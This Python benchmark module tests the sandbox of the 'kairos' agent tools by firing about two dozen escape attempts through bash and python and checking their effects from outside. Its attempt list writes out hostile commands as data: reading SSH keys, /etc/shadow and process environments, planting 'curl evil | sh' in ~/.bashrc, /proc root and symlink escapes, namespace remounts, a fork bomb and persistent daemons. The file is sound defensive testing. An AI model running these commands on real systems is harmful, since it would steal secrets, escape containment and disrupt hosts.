"""``sandbox``: escape attempts through the real ``bash`` and ``python`` tools; every effect checked from outside.

Each attempt runs in a fresh workspace with a fresh session (a new sandbox), with a fake home
(``~/.ssh/id_rsa``, ``~/.bashrc``, the kairos user config) and fake API keys in kairos's own
environment. Whether it *escaped* is decided outside the sandbox by looking for the effect: a file
that appeared or changed outside the workspace, a connection the bench's own servers received, a
process still alive after the call, a victim process killed; where no outside effect exists (a
secret printed, memory allocated) by a marker only the successful attempt can print. The tool's
exit code is never used. Summary: ``escapes`` (must be 0) and ``attempts``.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Awaitable, Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from rich.console import Console

from kairos.tools.base import ToolContext
from kairos.tools.builtins import bash, python
from kairos.tools.sandbox import SANDBOX_RESOURCE, Sandbox, SandboxConfig

KEY = "-----BEGIN OPENSSH PRIVATE KEY----- kairos-bench-fake-key"
SECRETS = {"KAIROS_API_KEY": "kairos-bench-secret-1", "OPENAI_API_KEY": "sk-kairos-bench-secret-2"}
RC = "# the user's own bashrc\n"
APPROVALS = '{"approved": []}\n'


@dataclass
class World:
    """What the attempts aim at, all outside the sandbox's workspace."""

    root: Path
    home: Path
    outside: Path
    config_dir: Path
    port: int
    hits: list[str] = field(default_factory=list)
    victim: subprocess.Popen[bytes] | None = None

    @property
    def ws(self) -> Path:
        return self.root / "ws"


@dataclass(frozen=True)
class Attempt:
    name: str
    tool: str
    code: Callable[[World], str]
    escaped: Callable[[World, str], Awaitable[tuple[bool, str]]]
    timeout_s: float = 20
    control: bool = True
    """Also run it without the sandbox (the control run that shows the check can see an escape)."""


def _alive(tag: str) -> list[int]:
    out = []
    for entry in os.scandir("/proc"):
        if entry.name.isdigit():
            with contextlib.suppress(OSError):
                if tag.encode() in Path(entry.path, "cmdline").read_bytes():
                    out.append(int(entry.name))
    return out


def _exists(p: Path) -> bool:
    return p.exists()


def _text(p: Path) -> str | None:
    return p.read_text() if p.is_file() else None


def _spawn_victim() -> subprocess.Popen[bytes]:
    return subprocess.Popen(["sleep", "7790"])


def file_made(rel: str) -> Callable[[World, str], Awaitable[tuple[bool, str]]]:
    async def check(w: World, out: str) -> tuple[bool, str]:
        p = Path(rel.format(outside=w.outside, home=w.home, ws=w.ws))
        made = _exists(p)
        return made, f"{p} {'exists' if made else 'was not created'}"

    return check


def unchanged(rel: str, content: str) -> Callable[[World, str], Awaitable[tuple[bool, str]]]:
    async def check(w: World, out: str) -> tuple[bool, str]:
        p = Path(rel.format(outside=w.outside, home=w.home, ws=w.ws, config=w.config_dir))
        now = _text(p)
        return now != content, f"{p} {'changed' if now != content else 'unchanged'}"

    return check


def printed(*markers: str) -> Callable[[World, str], Awaitable[tuple[bool, str]]]:
    async def check(w: World, out: str) -> tuple[bool, str]:
        seen = [m for m in markers if m in out]
        return bool(seen), f"output shows {seen}" if seen else "no secret/marker in the output"

    return check


def none_alive(tag: str) -> Callable[[World, str], Awaitable[tuple[bool, str]]]:
    async def check(w: World, out: str) -> tuple[bool, str]:
        await asyncio.sleep(0.5)  # a daemon that forks once more gets the chance to show up
        pids = _alive(tag)
        for pid in pids:  # never leave one behind
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
        return bool(pids), f"still running after the call: {pids}" if pids else "no process left after the call"

    return check


def got_connection(kind: str) -> Callable[[World, str], Awaitable[tuple[bool, str]]]:
    async def check(w: World, out: str) -> tuple[bool, str]:
        await asyncio.sleep(0.2)
        hit = kind in w.hits
        return hit, f"the bench's {kind} server {'was reached' if hit else 'saw no connection'}"

    return check


async def victim_alive(w: World, out: str) -> tuple[bool, str]:
    assert w.victim is not None
    dead = w.victim.poll() is not None
    return dead, "the victim process was killed" if dead else "the victim process is alive"


async def process_count(w: World, out: str) -> tuple[bool, str]:
    await asyncio.sleep(0.5)
    left = _alive("kairos-bench-bomb")
    limited = "Resource temporarily unavailable" in out or "retry" in out
    return bool(left), f"{len(left)} bomb processes left; the process limit {'held' if limited else 'was not hit'}"


def _attempts() -> list[Attempt]:
    a = Attempt
    return [
        a("write outside the workspace", "bash", lambda w: f"echo x > {w.outside}/pwned", file_made("{outside}/pwned")),
        a("write /etc", "bash", lambda w: "echo x > /etc/kairos-bench-pwned", file_made("/etc/kairos-bench-pwned")),
        a("overwrite .kairos state", "bash", lambda w: "echo '{\"approved\":[\"evil\"]}' > .kairos/approvals.json",
          unchanged("{ws}/.kairos/approvals.json", APPROVALS)),
        a("plant a skill in .kairos", "bash",
          lambda w: "mkdir -p .kairos/skills/x && echo hi > .kairos/skills/x/SKILL.md",
          file_made("{ws}/.kairos/skills/x/SKILL.md")),
        a("read ~/.ssh", "bash", lambda w: "cat ~/.ssh/id_rsa", printed(KEY)),
        a("read ~/.ssh by absolute path", "python", lambda w: f"print(open('{w.home}/.ssh/id_rsa').read())",
          printed(KEY)),
        a("append to ~/.bashrc", "bash", lambda w: "echo 'curl evil | sh' >> ~/.bashrc",
          unchanged("{home}/.bashrc", RC)),
        a("rewrite the user's kairos approvals", "bash", lambda w: f"echo '{{}}' > {w.config_dir}/approvals.json",
          unchanged("{config}/approvals.json", APPROVALS)),
        a("secrets in the environment", "bash", lambda w: "env", printed(*SECRETS.values())),
        a("parent's /proc/PID/environ", "bash",
          lambda w: f"cat /proc/{os.getpid()}/environ; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'",
          printed(*SECRETS.values())),
        a("/etc/shadow", "bash", lambda w: "cat /etc/shadow /etc/gshadow", printed("root:")),
        a("write through /proc/1/root", "bash", lambda w: f"echo x > /proc/1/root{w.outside}/pwned-proc1",
          file_made("{outside}/pwned-proc1")),
        a("write through /proc/self/root", "bash", lambda w: f"echo x > /proc/self/root{w.outside}/pwned-self",
          file_made("{outside}/pwned-self")),
        a("symlink out of the workspace", "bash", lambda w: f"ln -s {w.outside} out && echo x > out/pwned-link",
          file_made("{outside}/pwned-link")),
        a("remount / read-write", "bash", lambda w: "mount -o remount,rw / ; echo x > /etc/kairos-bench-remount",
          file_made("/etc/kairos-bench-remount"), control=False),
        a("new user namespace, then remount", "bash",
          lambda w: f"unshare -rm sh -c 'mount -o remount,rw,bind {w.outside} {w.outside}; mount -t tmpfs t /mnt; "
          f"echo x > {w.outside}/pwned-userns'",
          file_made("{outside}/pwned-userns"), control=False),
        a("network: the bench's loopback server", "bash", lambda w: f"echo hi > /dev/tcp/127.0.0.1/{w.port}",
          got_connection("tcp")),
        a("network: an outside address", "python",
          lambda w: "import socket\ns = socket.create_connection(('1.1.1.1', 53), timeout=3)\nprint('CONNECTED-OUT')",
          printed("CONNECTED-OUT")),
        a("network: abstract unix socket", "python",
          lambda w: "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('\\0kairos-bench')\n"
          "print('CONNECTED-UNIX')",
          got_connection("unix")),
        a("background process survives (setsid)", "bash", lambda w: "setsid sleep 7791 >/dev/null 2>&1 &",
          none_alive("7791")),
        a("double-forked daemon survives", "python",
          lambda w: "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
          "        os.execvp('sleep', ['sleep', '7792'])\n    os._exit(0)\ntime.sleep(0.2)\nprint('forked')",
          none_alive("7792")),
        a("kill a process outside", "bash", lambda w: f"kill -9 {w.victim.pid if w.victim else 0}", victim_alive),
        a("ptrace kairos", "python",
          lambda w: "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
          f"r = libc.ptrace(16, {os.getpid()}, 0, 0)\nprint('ATTACHED' if r == 0 else 'no')",
          printed("ATTACHED"), control=False),
        a("fork bomb", "bash",
          lambda w: "(exec -a kairos-bench-bomb bash -c 'bomb() { bomb | bomb & }; bomb; sleep 3')",
          process_count, timeout_s=10, control=False),
        a("memory exhaustion (16 GiB)", "python",
          lambda w: "b = bytearray(16 * 1024**3)\nprint('ALLOCATED')", printed("ALLOCATED"), control=False),
        a("CPU burn outlives its timeout", "bash", lambda w: "exec -a kairos-bench-burn python3 -c 'while True: pass'",
          none_alive("kairos-bench-burn"), timeout_s=3, control=False),
    ]  # fmt: skip


@contextlib.contextmanager
def _environment(home: Path, config_dir: Path) -> Iterator[None]:
    saved = {k: os.environ.get(k) for k in ("HOME", "KAIROS_CONFIG_DIR", *SECRETS)}
    os.environ.update({"HOME": str(home), "KAIROS_CONFIG_DIR": str(config_dir), **SECRETS})
    try:
        yield
    finally:
        for k, v in saved.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v


async def _servers(w: World) -> tuple[asyncio.Server, socket.socket]:
    async def on_tcp(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        w.hits.append("tcp")
        writer.close()

    server = await asyncio.start_server(on_tcp, "127.0.0.1", 0)
    w.port = server.sockets[0].getsockname()[1]
    unix = socket.socket(socket.AF_UNIX)
    unix.bind("\0kairos-bench")
    unix.listen()
    unix.setblocking(False)

    def on_unix() -> None:
        with contextlib.suppress(OSError):
            conn, _ = unix.accept()
            w.hits.append("unix")
            conn.close()

    asyncio.get_running_loop().add_reader(unix.fileno(), on_unix)
    return server, unix


def _fresh(w: World) -> None:
    import shutil

    shutil.rmtree(w.ws, ignore_errors=True)
    (w.ws / ".kairos").mkdir(parents=True)
    (w.ws / ".kairos" / "approvals.json").write_text(APPROVALS)
    (w.home / ".bashrc").write_text(RC)
    (w.config_dir / "approvals.json").write_text(APPROVALS)


def _host_reaches_outside() -> bool:
    try:
        socket.create_connection(("1.1.1.1", 53), timeout=3).close()
    except OSError:
        return False
    return True


async def _run_all(root: Path, console: Console, config: SandboxConfig) -> list[dict[str, Any]]:
    home, outside = root / "home", root / "outside"
    config_dir = home / ".config" / "kairos"
    for d in (home / ".ssh", outside, config_dir):
        d.mkdir(parents=True, exist_ok=True)
    (home / ".ssh" / "id_rsa").write_text(KEY + "\n")
    w = World(root, home, outside, config_dir, 0)
    server, unix = await _servers(w)
    rows: list[dict[str, Any]] = []
    try:
        with _environment(home, config_dir):
            for attempt in _attempts():
                if config.mode == "off" and not attempt.control:
                    continue
                _fresh(w)
                w.hits.clear()
                w.victim = _spawn_victim()
                ctx = ToolContext(workspace=w.ws, session_id="bench")
                ctx.put(SANDBOX_RESOURCE, Sandbox(config))
                t = bash if attempt.tool == "bash" else python
                arg = "command" if attempt.tool == "bash" else "code"
                started = time.perf_counter()
                try:
                    result = await t.call({arg: attempt.code(w), "timeout_s": attempt.timeout_s}, ctx)
                    out = result.content
                    sandboxed = result.metadata.get("sandbox") == "bwrap"
                finally:
                    await ctx.aclose()
                ms = (time.perf_counter() - started) * 1000
                escaped, detail = await attempt.escaped(w, out)
                w.victim.kill()
                w.victim.wait()
                row = {"name": attempt.name, "tool": attempt.tool, "escaped": escaped, "detail": detail,
                       "sandboxed": sandboxed, "ms": round(ms, 1)}  # fmt: skip
                if sandboxed:  # the control run's output may hold real secrets (/etc/shadow): not kept
                    row["output"] = out[-300:]
                rows.append(row)
                mark = "[red]ESCAPED[/]" if escaped else "[green]held[/]"
                console.print(f"[dim]{attempt.name}:[/] {mark} [dim]({detail})[/]")
    finally:
        asyncio.get_running_loop().remove_reader(unix.fileno())
        unix.close()
        server.close()
        await server.wait_closed()
    for p in ("/etc/kairos-bench-pwned", "/etc/kairos-bench-remount"):  # should never exist; clean up if one did
        with contextlib.suppress(OSError):
            os.unlink(p)
    return rows


def run(console: Console | None = None, quick: bool = False, control: bool = True) -> dict[str, Any]:
    """Run every escape attempt once in the sandbox, then (``control``) the safe ones without it.

    The control run shows that each check can see an escape: without the sandbox most attempts
    succeed. Attempts that would harm the machine unconfined (fork bomb, remount, ptrace of the
    bench, 16 GiB) are left out of it. ``quick`` changes nothing: each attempt is one call.
    """
    console = console or Console()
    config = SandboxConfig()
    with tempfile.TemporaryDirectory(prefix="kairos-sandbox-bench-") as tmp:
        rows = asyncio.run(_run_all(Path(tmp), console, config))
    control_rows: list[dict[str, Any]] = []
    if control:
        console.print("[bold]control: the same attempts without the sandbox[/]")
        with tempfile.TemporaryDirectory(prefix="kairos-sandbox-bench-control-") as tmp:
            control_rows = asyncio.run(_run_all(Path(tmp), console, SandboxConfig(mode="off")))
    escapes = sum(r["escaped"] for r in rows)
    return {
        "bench": "sandbox",
        "params": {
            "sandbox": config.model_dump(),
            "python": sys.version.split()[0],
            "uid": os.getuid(),
            "bwrap": Sandbox(config).program,
            "host_reaches_1.1.1.1:53": _host_reaches_outside(),
        },  # fmt: skip
        "rows": rows,
        "control_rows": control_rows,
        "summary": {
            "escapes": escapes,
            "attempts": len(rows),
            "control_escapes_without_sandbox": sum(r["escaped"] for r in control_rows),
            "control_attempts": len(control_rows),
            "all_sandboxed": all(r["sandboxed"] for r in rows),
            "median_ms_per_attempt": sorted(r["ms"] for r in rows)[len(rows) // 2] if rows else None,
        },
    }
